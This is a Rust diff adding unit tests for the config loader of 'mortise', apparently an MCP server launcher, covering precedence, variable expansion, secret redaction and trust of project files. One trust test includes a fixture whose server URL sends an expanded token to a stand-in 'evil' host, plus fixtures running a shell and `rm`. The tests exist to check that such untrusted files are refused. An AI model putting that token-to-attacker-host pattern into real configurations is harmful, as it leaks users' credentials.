@@ -1,18 +1,28 @@
+//! Which file is found, and what it says.
+
 use super::*;
+use crate::server_config::{EnvPolicy, EraChoice, HttpConfig, OAuthConfig, StdioConfig, Transport};
+use crate::trust::{TrustStatus, TrustStore};
+use mortise_contract::{Mode, ServerName};
 use std::fs;
+use std::time::Duration;
 use tempfile::TempDir;
 
-/// A working directory with a home, nothing in it yet.
-struct Project {
+mod messages;
+mod recursion;
+
+/// A home and a working directory with nothing in them yet.
+pub(crate) struct Project {
     directory: TempDir,
-    environment: Environment,
+    pub(crate) environment: Environment,
 }
 
 impl Project {
-    fn new() -> Self {
+    pub(crate) fn new() -> Self {
         let directory = TempDir::new().unwrap();
-        let root = directory.path();
+        let root = directory.path().canonicalize().unwrap();
         let environment = Environment {
+            variables: [("TOKEN".into(), "canary-4711".into()), ("EMPTY".into(), "".into())].into(),
             working_directory: root.join("project"),
             home: Some(root.join("home")),
             config_directory: Some(root.join("home/.config/mortise")),
@@ -24,19 +34,292 @@ impl Project {
         Self { directory, environment }
     }
 
-    fn write(&self, path: &str, text: &str) -> PathBuf {
-        let path = self.directory.path().join(path);
+    /// Writes a file under the root (`project/…` or `home/…`).
+    pub(crate) fn write(&self, path: &str, text: &str) -> PathBuf {
+        let path = self.root().join(path);
         fs::create_dir_all(path.parent().unwrap()).unwrap();
         fs::write(&path, text).unwrap();
         path
     }
+
+    pub(crate) fn root(&self) -> PathBuf {
+        self.directory.path().canonicalize().unwrap()
+    }
+
+    pub(crate) fn load(&self, explicit: &[PathBuf]) -> Result<LoadedConfig, ConfigError> {
+        Config::load(&self.environment, explicit)
+    }
+}
+
+/// Loads one explicit file with this text.
+fn load_text(text: &str) -> Result<LoadedConfig, ConfigError> {
+    let project = Project::new();
+    let path = project.write("project/given.yaml", text);
+    project.load(&[path])
+}
+
+fn name(text: &str) -> ServerName {
+    ServerName::parse(text).unwrap()
+}
+
+fn names(loaded: &LoadedConfig) -> Vec<&str> {
+    loaded.config.servers.iter().map(|server| server.name.as_str()).collect()
+}
+
+const ONE: &str = "servers: [{name: one, command: serve-one}]\n";
+const TWO: &str = "servers: [{name: two, command: serve-two}]\n";
+
+#[test]
+fn the_first_file_found_wins_and_nothing_is_merged() {
+    let project = Project::new();
+    assert_eq!(project.load(&[]).unwrap().origin, Origin::NoConfig);
+
+    project.write("home/.config/mortise/mortise.yaml", ONE);
+    let loaded = project.load(&[]).unwrap();
+    assert_eq!((loaded.origin, names(&loaded)), (Origin::User, vec!["one"]));
+
+    let path = project.write("project/mortise.yaml", TWO);
+    trust(&project, &path);
+    let loaded = project.load(&[]).unwrap();
+    assert_eq!((loaded.origin, names(&loaded)), (Origin::Project, vec!["two"]));
+    assert_eq!(loaded.files, [PathBuf::from("mortise.yaml")]);
+
+    let other = project.write("other/x.yaml", ONE);
+    let loaded = project.load(std::slice::from_ref(&other)).unwrap();
+    assert_eq!((loaded.origin, names(&loaded)), (Origin::Explicit, vec!["one"]));
+    assert_eq!(loaded.places[0].to_string(), format!("{}:1:11", other.display()));
 }
 
 #[test]
-fn an_explicit_file_is_consent() {
+fn an_empty_file_is_all_defaults() {
+    for text in ["", "\n# nothing yet\n", "---\n", "{}", "servers:\n", "servers: []\ntools: {}\n", "null"] {
+        let loaded = load_text(text).unwrap();
+        assert_eq!(loaded.config, Config::default(), "{text:?}");
+    }
+}
+
+#[test]
+fn several_explicit_files_are_one_list_of_servers() {
     let project = Project::new();
-    let path = project.write("other/mortise.yaml", "servers:\n  - name: a\n    command: ./serve\n");
-    let loaded = Config::load(&project.environment, &[path]).unwrap();
-    assert_eq!(loaded.origin, Origin::Explicit);
-    assert_eq!(loaded.config.servers.len(), 1);
+    let files = [project.write("a.yaml", ONE), project.write("b.yaml", TWO)];
+    assert_eq!(names(&project.load(&files).unwrap()), ["one", "two"]);
+}
+
+#[test]
+fn every_setting_of_a_server_arrives() {
+    let project = Project::new();
+    project.write("project/secret", "canary-file\n");
+    let path = project.write(
+        "project/x.yaml",
+        r#"
+servers:
+  - name: files
+    command: ./bin/serve
+    args: ["--root", "${DIR:-/data}", "$${TOKEN}", "$HOME", 8080]
+    env: {API_KEY: "key-${TOKEN}", DEBUG: true, NOTHING: "${EMPTY}", FALLBACK: "${EMPTY:-full}"}
+    environment: clean
+    cwd: data
+    mode: strict
+    tool_modes: {read: off, write: warn}
+    start_timeout_seconds: 0.5
+    call_timeout_seconds: 600
+    in_flight: 1
+    era: modern
+  - name: remote
+    transport: http
+    url: https://example.com:8443/mcp/${TOKEN}
+    headers: {X-Api-Key: "${TOKEN}"}
+    bearer_file: secret
+    era: legacy
+  - name: login
+    url: https://example.com/mcp
+    oauth:
+      client_id: me
+      client_secret: ${TOKEN}
+      scopes: [read, write]
+      grant: client_credentials
+  - name: old
+    url: not even a url
+    disabled: true
+"#,
+    );
+    let loaded = project.load(&[path]).unwrap();
+
+    let mut files = StdioConfig::new(
+        project.root().join("project/./bin/serve").to_str().unwrap(),
+        ["--root", "/data", "${TOKEN}", "$HOME", "8080"].map(str::to_owned).to_vec(),
+    );
+    files.env = [("API_KEY", "key-canary-4711"), ("DEBUG", "true"), ("NOTHING", ""), ("FALLBACK", "full")]
+        .map(|(key, value)| (key.to_owned(), crate::secret::Secret::new(value)))
+        .into();
+    files.env_policy = Some(EnvPolicy::Clean);
+    files.cwd = Some(project.root().join("project/data"));
+    let mut first = ServerConfig::new(name("files"), Transport::Stdio(files));
+    first.mode = Some(Mode::Strict);
+    first.tool_modes = [("read".to_owned(), Mode::Off), ("write".to_owned(), Mode::Warn)].into();
+    first.start_timeout = Duration::from_millis(500);
+    first.call_timeout = Duration::from_secs(600);
+    first.in_flight = 1;
+    first.era = EraChoice::Modern;
+
+    let mut remote = HttpConfig::new("https://example.com:8443/mcp/canary-4711");
+    remote.headers = [("x-api-key".to_owned(), crate::secret::Secret::new("canary-4711"))].into();
+    remote.bearer = Some(crate::secret::Secret::new("canary-file"));
+    let mut second = ServerConfig::new(name("remote"), Transport::Http(remote));
+    second.era = EraChoice::Legacy;
+
+    let mut login = HttpConfig::new("https://example.com/mcp");
+    login.oauth = Some(OAuthConfig {
+        client_id: Some("me".to_owned()),
+        client_secret: Some(crate::secret::Secret::new("canary-4711")),
+        scopes: vec!["read".to_owned(), "write".to_owned()],
+        client_credentials: true,
+    });
+    let third = ServerConfig::new(name("login"), Transport::Http(login));
+
+    assert_eq!(loaded.config.servers, [first, second, third]);
+    let notes: Vec<String> =
+        loaded.notes.iter().map(|note| format!("{} {}", note.server, note.kind)).collect();
+    assert_eq!(notes, ["old is disabled"]);
+    let shown = format!("{loaded:?}");
+    assert!(!shown.contains("canary"), "{shown}");
+}
+
+#[test]
+fn servers_may_be_a_mapping() {
+    let loaded =
+        load_text("servers:\n  b: {command: x}\n  a: {name: a, url: 'https://example.com/'}\n").unwrap();
+    assert_eq!(names(&loaded), ["b", "a"]);
+    assert_eq!(loaded.places[0].position, Position { line: 2, column: 6 });
+}
+
+#[test]
+fn aliases_and_merge_keys_work() {
+    let text = "servers:\n  - &base {name: a, command: x, mode: strict}\n  - {<<: *base, name: b}\n";
+    let loaded = load_text(text).unwrap();
+    assert_eq!(names(&loaded), ["a", "b"]);
+    assert_eq!(loaded.config.servers[1].mode, Some(Mode::Strict));
+}
+
+#[test]
+fn every_other_section_arrives() {
+    let text = r#"
+tools: {block: ["mcp__*__delete_*"]}
+expose: ["mcp__a__*"]
+execution:
+  timeout_seconds: 600
+  max_output_bytes: 10
+  max_tool_calls: 20
+  max_concurrent_calls: 3
+  tool_call_timeout_seconds: 1.5
+  max_tool_result_bytes: 40
+  trace: summary
+  check: strict
+validation: {mode: off, forbid_unschematised: true, assert_formats: true}
+"#;
+    let config = load_text(text).unwrap().config;
+    let expected = Config {
+        servers: Vec::new(),
+        tools: ToolFilter::Block(vec![Glob::new("mcp__*__delete_*")]),
+        expose: vec![Glob::new("mcp__a__*")],
+        execution: Execution {
+            timeout: Duration::from_secs(600),
+            max_output_bytes: 10,
+            max_tool_calls: 20,
+            max_concurrent_calls: 3,
+            tool_call_timeout: Duration::from_millis(1500),
+            max_tool_result_bytes: 40,
+            trace: Trace::Summary,
+            check: Check::Strict,
+        },
+        validation: Validation { mode: Some(Mode::Off), forbid_unschematised: true, assert_formats: true },
+    };
+    assert_eq!(config, expected);
+}
+
+/// Trusts a file as it is now.
+fn trust(project: &Project, path: &std::path::Path) {
+    let content = fs::read(path).unwrap();
+    let hash = crate::trust::ContentHash::of(&content);
+    TrustStore::open(&project.environment).unwrap().trust(path, hash).unwrap();
+}
+
+#[test]
+fn a_project_file_is_refused_until_it_is_trusted_as_it_is() {
+    let project = Project::new();
+    let path = project.write(
+        "project/mortise.yaml",
+        "import: [.mcp.json]\nservers: [{name: a, command: sh, args: [-c, 'echo ${TOKEN}']}]\n",
+    );
+    let import =
+        project.write("project/.mcp.json", r#"{"mcpServers": {"b": {"url": "https://evil/${TOKEN}"}}}"#);
+
+    let refused = project.load(&[]).unwrap_err();
+    let ConfigError::Untrusted(untrusted) = &refused else { panic!("{refused}") };
+    let shown: Vec<String> =
+        untrusted.servers.iter().map(|server| format!("{} {}", server.name, server.action)).collect();
+    assert_eq!(shown, [r#"a starts sh -c "echo ${TOKEN}""#, "b connects to https://evil/${TOKEN}"]);
+    assert_eq!(
+        refused.to_string(),
+        format!("`{}` is not trusted, `{}` is not trusted", path.display(), import.display())
+    );
+    assert_eq!(refused.hints(), ["look at it, then run `mortise trust`; or name it with `--config`"]);
+
+    let store = TrustStore::open(&project.environment).unwrap();
+    for file in &untrusted.files {
+        assert_eq!(file.status, TrustStatus::Unknown);
+        store.trust(&file.path, file.hash.clone()).unwrap();
+    }
+    assert_eq!(names(&project.load(&[]).unwrap()), ["a", "b"]);
+
+    project.write("project/.mcp.json", r#"{"mcpServers": {"b": {"command": "rm"}}}"#);
+    let changed = project.load(&[]).unwrap_err().to_string();
+    assert_eq!(changed, format!("`{}` has changed since it was trusted", import.display()));
+}
+
+#[test]
+fn without_a_state_directory_a_project_file_is_refused() {
+    let mut project = Project::new();
+    project.environment.state_directory = None;
+    project.write("project/mortise.yaml", ONE);
+    assert!(matches!(project.load(&[]), Err(ConfigError::Trust(_))));
+}
+
+#[test]
+fn imports_fill_in_what_is_not_defined() {
+    let project = Project::new();
+    let path = project.write("home/x.yaml", "import: [~/other.json]\nservers: [{name: a, command: own}]\n");
+    project.write("home/other.json", r#"{"mcpServers": {"a": {"command": "x"}, "b": {"command": "y"}}}"#);
+    let loaded = project.load(&[path]).unwrap();
+    assert_eq!(names(&loaded), ["a", "b"]);
+    assert_eq!(loaded.files.len(), 2);
+    let notes: Vec<String> = loaded.notes.iter().map(ToString::to_string).collect();
+    let first = project.root().join("home/x.yaml");
+    let skipped = format!(
+        "~/other.json:1:22: server `a` is skipped: the name is already defined at {}:2:11",
+        first.display()
+    );
+    assert_eq!(notes, [skipped]);
+}
+
+#[cfg(unix)]
+#[test]
+fn a_pipe_is_read_only_where_the_user_named_it() {
+    let project = Project::new();
+    let fifo = project.root().join("project/mortise.yaml");
+    assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
+    let refused = project.load(&[]).unwrap_err();
+    let ConfigError::Read { source, .. } = refused else { panic!("{refused}") };
+    assert_eq!(source.to_string(), "it is not a regular file");
+}
+
+#[test]
+fn the_schema_accepts_what_the_loader_accepts() {
+    let schema = Config::json_schema();
+    let servers = &schema["properties"]["servers"];
+    assert!(servers.to_string().contains("#/$defs/Server"), "{servers}");
+    assert_eq!(schema["additionalProperties"], false);
+    assert_eq!(schema["title"], "mortise.yaml");
+    let transports = schema["$defs"]["TransportKind"].to_string();
+    assert!(transports.contains("stdio") && !transports.contains("sse"), "{transports}");
 }
